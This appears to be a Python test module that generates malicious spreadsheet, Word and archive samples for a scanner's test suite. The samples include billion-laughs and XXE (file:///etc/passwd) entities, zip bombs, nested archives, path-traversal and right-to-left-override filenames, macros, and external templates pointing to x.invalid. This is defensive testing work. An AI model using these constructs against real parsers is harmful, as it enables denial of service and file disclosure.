"""Archives: spreadsheets and papers of an office program with what nobody sees, and bombs."""

from __future__ import annotations

import io
import zipfile

from openpyxl import Workbook

from tests.corpus.file import CANARY, MARK, File

SPACE = "http://schemas.openxmlformats.org"
MAIN = f"{SPACE}/spreadsheetml/2006/main"
KINDS = f"{SPACE}/officeDocument/2006/relationships"
PACKAGE = f"{SPACE}/package/2006"
ZEROS = b"\0" * (1 << 20)
HEADER = ("姓名", "手机号", "来源地", "返岗日期", "交通工具", "症状")
PERSON = ("示例一", "13800001234", "福建厦门", "2020-02-20", "高铁", "无")


def zipped(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, data in parts.items():
            packed.writestr(name, data)
    return out.getvalue()


def workbook(**parts: bytes) -> bytes:
    """A roster of one person, with more parts: "xl/a.bin" is said as xl__a_bin… in `parts` of `with_parts`."""
    book = Workbook()
    for row in (HEADER, PERSON):
        book.active.append(list(row))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def with_parts(more: dict[str, bytes], data: bytes = b"") -> bytes:
    """The same with these parts, or with others in their place."""
    with zipfile.ZipFile(io.BytesIO(data or workbook())) as packed:
        parts = {name: packed.read(name) for name in packed.namelist()}
    return zipped({**parts, **more})


def in_rels(place: str, kind: str, target: str, mode: str = "External") -> bytes:
    """A workbook whose part `place` is told to lead to somewhere."""
    rel = f'<Relationship Id="rId77" Type="{KINDS}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    with zipfile.ZipFile(io.BytesIO(workbook())) as packed:
        parts = {name: packed.read(name) for name in packed.namelist()}
    before = parts.get(place, _no_rels()).decode()
    parts[place] = before.replace("</Relationships>", f"{rel}</Relationships>").encode()
    return zipped(parts)


def _no_rels() -> bytes:
    return f'<Relationships xmlns="{PACKAGE}/relationships"></Relationships>'.encode()


def sheet_xml(before: str, value: str) -> bytes:
    """A workbook whose sheet begins with `before` and says `value` in its first cell."""
    cell = f'<row r="1"><c r="A1" t="inlineStr"><is><t>{value}</t></is></c></row>'
    xml = f'<?xml version="1.0"?>{before}<worksheet xmlns="{MAIN}"><sheetData>{cell}</sheetData></worksheet>'
    return with_parts({"xl/worksheets/sheet1.xml": xml.encode()})


def laughs() -> bytes:
    """An entity of a billion words."""
    lines = [f'<!ENTITY a0 "{CANARY}">']
    lines += [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)]
    return sheet_xml(f"<!DOCTYPE x [{''.join(lines)}]>", "&a9;")


def foreign_entity() -> bytes:
    where = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    return sheet_xml(where, "&a;")


def bomb() -> bytes:
    """Four hundred megabytes of nothing in a sheet."""
    out = io.BytesIO(workbook())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as packed:
        with packed.open("xl/worksheets/sheet9.xml", "w", force_zip64=True) as part:
            for _ in range(400):
                part.write(ZEROS)
        packed.writestr("xl/mark.txt", MARK)
    return out.getvalue()


def nested(deep: int = 12) -> bytes:
    data = MARK
    for _ in range(deep):
        data = zipped({"inner.zip": data})
    return data


def many() -> bytes:
    return zipped({f"xl/{n}.xml": MARK for n in range(5000)})


def turned(name: str) -> bytes:
    return zipped({name: MARK, "xl/workbook.xml": b"<x/>"})


def document(**more: str) -> bytes:
    """A paper of a text program; `more`: its relations, by kind and target."""
    rels = "".join(
        f'<Relationship Id="r{n}" Type="{KINDS}/{kind}" Target="{target}" TargetMode="External"/>'
        for n, (kind, target) in enumerate(more.items())
    )
    links = f'<Relationships xmlns="{PACKAGE}/relationships">{rels}</Relationships>'
    return zipped(
        {
            "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types"/>'.encode(),
            "word/document.xml": "<w:document>示例</w:document>".encode(),
            "word/_rels/document.xml.rels": links.encode(),
            "word/_rels/settings.xml.rels": links.encode(),
        }
    )


def with_object() -> bytes:
    parts = {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + MARK}
    return with_parts(parts, document())


def with_control() -> bytes:
    return with_parts({"word/activeX/activeX1.bin": MARK}, document())


def with_macro(folder: str, data: bytes = b"") -> bytes:
    return with_parts({f"{folder}/vbaProject.bin": b"\xd0\xcf\x11\xe0" + MARK}, data)


def ods_with_macro() -> bytes:
    content = (
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        ' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
        ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
        '<table:table table:name="a"><table:table-row><table:table-cell office:value-type="string">'
        "<text:p>姓名</text:p></table:table-cell></table:table-row></table:table>"
        "</office:spreadsheet></office:body></office:document-content>"
    )
    return zipped(
        {
            "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
            "META-INF/manifest.xml": b"<manifest/>",
            "content.xml": content.encode(),
            "Basic/Standard/Module1.xml": MARK,
        }
    )


def properties() -> bytes:
    told = f'<p xmlns="x"><creator>{CANARY}</creator></p>'.encode()
    return with_parts({"docProps/core.xml": told, "docProps/custom.xml": told})


def old_table() -> bytes:
    """A web page that calls itself an old workbook, as many programs write them."""
    rows = "".join(
        f"<tr>{''.join(f'<td>{cell}</td>' for cell in row)}</tr>"
        for row in (HEADER, PERSON)
    )
    return f"<html><script>{CANARY}</script><table>{rows}</table></html>".encode()


SHEETS = {
    "xlsx macro": File("a.xlsm", lambda: with_macro("xl")),
    "xlsx macro called xlsx": File("a.xlsx", lambda: with_macro("xl")),
    "xlsx link outside": File(
        "a.xlsx",
        lambda: in_rels(
            "xl/_rels/workbook.xml.rels", "externalLink", f"http://x.invalid/{CANARY}"
        ),
    ),
    "xlsx object": File(
        "a.xlsx", lambda: with_parts({"xl/embeddings/oleObject1.bin": MARK})
    ),
    "xlsx names of authors": File("a.xlsx", properties),
    "xlsx bomb": File("a.xlsx", bomb),
    "xlsx entities": File("a.xlsx", laughs),
    "xlsx foreign entity": File("a.xlsx", foreign_entity),
    "xlsx many parts": File("a.xlsx", many),
    "xlsx names with folders": File("a.xlsx", lambda: turned(f"../../{CANARY}")),
    "xlsx names turned around": File("a.xlsx", lambda: turned(f"{CANARY}\u202efdp")),
    "xlsx cut off": File("a.xlsx", lambda: with_macro("xl")[:900]),
    "ods macro": File("a.ods", ods_with_macro),
    "html called xls": File("a.xls", old_table),
    "zip": File("a.zip", lambda: zipped({"a.xlsx": workbook(), "x": MARK})),
    "zip nested": File("a.zip", nested),
    "zip called jpg": File("a.jpg", lambda: zipped({"x.html": MARK})),
}
PAPERS = {
    "docx macro": File("a.docx", lambda: with_macro("word", document())),
    "docx template outside": File(
        "a.docx",
        lambda: document(attachedTemplate=f"http://x.invalid/{CANARY}.dotm"),
    ),
    "docx picture outside": File(
        "a.docx", lambda: document(image=f"https://x.invalid/{CANARY}.png")
    ),
    "docx object": File("a.docx", with_object),
    "docx control": File("a.docx", with_control),
}
